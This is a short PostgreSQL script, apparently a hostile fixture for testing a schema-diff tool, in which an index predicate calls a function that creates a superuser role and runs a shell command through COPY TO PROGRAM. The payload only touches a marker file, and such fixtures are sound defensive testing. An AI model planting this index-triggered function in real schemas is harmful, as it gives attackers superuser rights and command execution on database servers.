CREATE TABLE public.t (id int);
CREATE FUNCTION public.evil() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    EXECUTE 'CREATE ROLE pwned SUPERUSER';
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/schemadiff-hostile-pwned''';
    RETURN 1;
END
$$;
CREATE INDEX t_i ON public.t (id) WHERE id > public.evil();
